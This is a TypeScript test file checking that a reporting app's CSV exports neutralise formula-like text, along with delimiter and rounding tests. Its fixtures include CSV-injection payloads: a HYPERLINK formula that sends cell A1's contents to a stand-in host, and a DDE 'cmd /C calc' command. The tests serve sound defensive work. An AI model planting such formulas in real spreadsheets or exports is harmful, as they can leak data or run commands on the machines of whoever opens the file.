import { Writable } from "node:stream";
import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { neutraliseFormula, restoreFormulaText } from "../../src/core/input/spreadsheet-text";
import { parseRound, roundRows, roundTo } from "../../src/export/round";
import { writeCsv } from "../../src/export/write";
import { databaseTargets } from "../support/databases";
import { useFixtureApp } from "../support/fixture-app";

const FORMULA = /^[=+\-@\t\r]/;
/** A cell that starts a formula and is not a number written as one. */
const formulaText = (cell: string) => FORMULA.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

async function csvOf(columns: string[], rows: Record<string, unknown>[]): Promise<string> {
  let text = "";
  const out = new Writable({ write: (chunk, _enc, done) => ((text += chunk.toString("utf8")), done()) });
  await writeCsv(columns, rows as never, out);
  return text;
}

describe("formula-like text in CSV (OWASP CSV injection)", () => {
  it("puts a ' before text starting with = + - @ tab or CR, and leaves numbers, dates and booleans as they are", async () => {
    const text = await csvOf(["title", "n", "rate", "day", "flag"], [
      { title: "-2+3", n: -5, rate: -0.25, day: "2020-01-31", flag: true },
      { title: "\tTabbed", n: 0, rate: null, day: null, flag: false },
      { title: "\r=1", n: 3, rate: 1, day: null, flag: null },
      { title: "Plain - text = fine", n: 1, rate: 0.5, day: null, flag: null },
    ]);
    expect(text).toBe(["title,n,rate,day,flag", "'-2+3,-5,-0.25,2020-01-31,true", `"'\tTabbed",0,,,false`, '"\'\r=1",3,1,,', "Plain - text = fine,1,0.5,,", ""].join("\n"));
  });

  it("restores exactly what it neutralised, and nothing else", () => {
    const texts = ["=A1", "+1", "-x", "@x", "\tx", "\rx", "'=A1", "''=A1", "'plain", "''", "'", "plain", "", "a=b"];
    for (const t of texts) {
      expect(restoreFormulaText(neutraliseFormula(t)), JSON.stringify(t)).toBe(t);
      expect(FORMULA.test(neutraliseFormula(t)), JSON.stringify(t)).toBe(false);
    }
    expect(texts.map(neutraliseFormula)).toEqual(["'=A1", "'+1", "'-x", "'@x", "'\tx", "'\rx", "''=A1", "'''=A1", "'plain", "''", "'", "plain", "", "a=b"]);
  });
});

const MISSION = '=HYPERLINK("http://example.invalid/?x="&A1,"Click")';
const TEAM = "+SUM(1,2)";
const TRAINING = "=cmd|' /C calc'!A0";

describe.each(databaseTargets())("CSV exports of formula-like text on the $name database", (target) => {
  const fx = useFixtureApp(target, {
    setup: async (db) => {
      await db.query(`UPDATE mission SET name = $1 WHERE code = 'MINUSTAH'`, [MISSION]);
      await db.query(`UPDATE specialized_team SET name = $1 WHERE id = 1`, [TEAM]);
    },
  });
  const get = async (path: string, token = fx.tokens.ANALYST) => {
    const res = await fetch(`http://127.0.0.1:${fx.app.port}/export/${path}`, { headers: { authorization: `Bearer ${token}` } });
    const text = await res.text();
    expect(res.status, text).toBe(200);
    return parse(text, { columns: false }) as string[][];
  };

  it("neutralises text written through a mutation and read back in entity and report exports; numbers stay numbers", async () => {
    const created = await fx.app.gql(
      `mutation($t: String!) { createTrainingDelivery(input: { title: $t, topicCode: "COMMUNITY_POLICING", countryIso3: "HTI", startDate: "2012-03-01", participants: 5, femaleParticipants: 2 }) { title } }`,
      { t: TRAINING }, { token: fx.tokens.EDITOR });
    expect(created.errors).toBeUndefined();
    expect(created.data).toEqual({ createTrainingDelivery: { title: TRAINING } });

    const tables = {
      missions: await get("missions.csv"),
      teams: await get("teams.csv"),
      trainings: await get("trainings.csv"),
      byTeam: await get("femaleParticipation.csv?to=2023-12-31&groupBy=TEAM&minCellSize=0"),
      trainingsReport: await get("trainingsDelivered.csv?groupBy=TOPIC"),
      reconciliation: await get("reconciliation.csv?from=2016-08-01&to=2016-09-30"),
    };
    for (const [name, rows] of Object.entries(tables)) {
      expect(rows.flat().filter(formulaText), name).toEqual([]);
    }
    expect(tables.missions.flat()).toContain(`'${MISSION}`);
    expect(tables.teams.flat()).toContain(`'${TEAM}`);
    expect(tables.trainings.flat()).toContain(`'${TRAINING}`);
    expect(tables.byTeam.flat()).toContain(`'${TEAM}`);
    // The register has no Canadian police in MINUSTAH at the UN's dates: negative differences, written as numbers.
    const [header, ...rows] = tables.reconciliation;
    const difference = header!.indexOf("difference");
    expect(rows.map((r) => r[difference])).toEqual(["-84", "-80"]);
  });

  it("writes a semicolon-separated file when asked (what French-Canadian spreadsheets expect), and names a wrong separator", async () => {
    const res = await fetch(`http://127.0.0.1:${fx.app.port}/export/teams.csv?delimiter=%3B`);
    const text = await res.text();
    expect(text.split("\n")[0]).toBe("mission_code;name;focus;led_by_canada;start_date;end_date;source");
    expect(text.split("\n")[1]).toBe("MINUSTAH;\"'+SUM(1,2)\";SGBV;true;2011-01-01;2017-10-15;synthetic demo");
    const bad = await fetch(`http://127.0.0.1:${fx.app.port}/export/teams.csv?delimiter=%7C`);
    expect(bad.status).toBe(400);
    expect((await bad.json()).errors[0]).toEqual({
      message: 'delimiter must be "," (comma), ";" (semicolon) or "\\t" (tab, also written "tab"), got "|"',
      extensions: { code: "BAD_USER_INPUT", field: "delimiter" },
    });
  });
});

describe("rounding an export's fractional figures (--round, round=)", () => {
  it("rounds half away from zero on the decimals as written, and leaves whole numbers", () => {
    expect([roundTo(0.125, 2), roundTo(1.005, 2), roundTo(-0.125, 2), roundTo(121 / 487, 3), roundTo(2.5, 0), roundTo(1.23e-12, 4), roundTo(84, 1)]).toEqual([0.13, 1.01, -0.13, 0.248, 3, 0, 84]);
    expect(roundRows([{ rate: 1 / 3, interval: { low: 0.0945, high: 0.9055 }, officers: 3, name: "x" }], 2)).toEqual([{ rate: 0.33, interval: { low: 0.09, high: 0.91 }, officers: 3, name: "x" }]);
    expect(() => parseRound("11", "round")).toThrow("round must be a whole number of decimals from 0 to 10, got \"11\"");
    expect(() => parseRound("1.5", "--round")).toThrow("--round must be a whole number of decimals from 0 to 10, got \"1.5\"");
  });
});
